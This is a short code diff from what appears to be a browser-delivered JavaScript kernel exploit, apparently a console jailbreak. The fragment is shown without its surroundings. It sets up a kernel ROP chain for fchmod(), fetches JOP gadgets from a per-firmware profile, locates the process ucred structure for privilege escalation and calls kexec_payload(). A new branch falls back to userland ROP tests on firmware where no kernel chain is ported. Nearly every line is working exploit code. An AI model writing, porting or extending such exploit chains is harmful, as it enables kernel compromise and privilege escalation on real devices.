 
     // setup for fchmod() kernel ROP chain
     mmap_area.write64(8, jop_buffer);
-    rax_ptrs.write64(0x70, kchain.get_gadget(jop2));
+    rax_ptrs.write64(0x70, kchain.get_gadget(profile.jop.jop2));
 
     alert('test ucred');
     const p_ucred = get_ucred_addr(kchain, sd, mmap_area);
@@ -1108,4 +803,9 @@ function kexploit() {
     kexec_payload();
 }
 
-kexploit();
+if (profile.kernel === null) {
+    // only the userland ROP chains are ported to this firmware
+    test_rop(Chain);
+} else {
+    kexploit();
+}